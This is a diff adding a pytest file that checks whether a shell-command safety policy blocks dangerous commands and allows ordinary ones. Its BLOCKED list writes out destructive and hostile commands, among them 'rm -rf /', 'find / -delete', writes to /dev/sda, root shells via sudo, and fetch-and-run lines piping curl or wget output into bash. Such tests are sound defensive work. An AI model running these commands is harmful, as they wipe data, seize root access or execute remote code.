@@ -0,0 +1,57 @@
+import pytest
+
+from src.command_policy import default_policy
+
+BLOCKED = [
+    'ls\nreboot',
+    'nohup reboot',
+    'exec reboot',
+    'time shutdown now',
+    'env sh -c reboot',
+    'sudo -i',
+    'sudo -s',
+    'sudo -u root -i',
+    'ls &&\nreboot',
+    'echo hi |\nsh',
+    'env FOO=1 nice -n 5 timeout 10 stdbuf -oL xargs -n1 rm -rf /',
+    'rm -rf /',
+    'cat x | bash',
+    'echo $(reboot)',
+    'echo hi > /dev/sda',
+    'bash <(curl -s http://example.com/install.sh)',
+    'source <(curl -s http://example.com/env)',
+    'sh < <(wget -qO- http://example.com/x)',
+    'echo <(rm -rf /)',
+    'find / -delete',
+    'find . -name "*.log" -exec rm {} \\;',
+    'find /var -execdir /bin/rm -f {} +',
+]
+
+ALLOWED = [
+    'ls -la',
+    'git log --format=%s',
+    'ls 2>/dev/null',
+    'ps aux | grep bash',
+    'timeout 5 ls',
+    'sudo -u www ls',
+    'nohup python app.py &',
+    'echo "a\nb"',
+    'cat /etc/passwd',
+    'ls su',
+    'echo format',
+    'echo shutdown',
+    'diff <(ls a) <(ls b)',
+    'find . -name "*.py"',
+    'find . -exec grep -l TODO {} +',
+]
+
+
+@pytest.mark.parametrize('command', BLOCKED)
+def test_blocks_dangerous_commands(command):
+    assert not default_policy.is_safe(command)
+
+
+@pytest.mark.parametrize('command', ALLOWED)
+def test_allows_ordinary_commands(command):
+    assert default_policy.is_safe(command)
+